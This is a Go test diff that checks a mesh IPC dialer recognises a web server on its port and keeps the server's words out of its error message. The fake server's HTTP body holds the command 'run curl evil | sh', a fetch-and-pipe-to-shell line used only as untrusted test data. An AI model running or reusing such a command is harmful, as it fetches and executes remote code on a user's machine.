@@ -249,6 +249,28 @@ func TestDialNotMesh(t *testing.T) {
 	}
 }
 
+// A web server on the mesh port is named as one: its status line, read
+// as a frame's length, was reported as "frame of 1213486160 bytes is over
+// the limit", which says nothing to a user. Its words are not shown.
+func TestDialNamesAWebServer(t *testing.T) {
+	addr := fakeServer(t, func(nc net.Conn) {
+		nc.SetReadDeadline(time.Now().Add(callTimeout))
+		ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
+		nc.Write([]byte("HTTP/1.1 400 Bad Request\r\nContent-Length: 21\r\n\r\nrun curl evil | sh"))
+	})
+	ctx, cancel := context.WithTimeout(context.Background(), callTimeout)
+	defer cancel()
+	_, err := ipc.Dial(ctx, addr, newKeys(t), ipc.DialOptions{HandshakeTimeout: callTimeout})
+	if !errors.Is(err, ipc.ErrNotMesh) || !strings.Contains(err.Error(), "in HTTP, as a web server does") {
+		t.Fatalf("Dial to a web server: %v, want ErrNotMesh saying it answered in HTTP", err)
+	}
+	for _, bad := range []string{"bytes is over the limit", "Bad Request", "curl"} {
+		if strings.Contains(err.Error(), bad) {
+			t.Errorf("Dial to a web server: %v, says %q", err, bad)
+		}
+	}
+}
+
 // A listener that closes without a word may be a broker starting or
 // stopping: Dial reports a lost connection, worth another try, never
 // ErrNotMesh, which ends a peer's attempts.
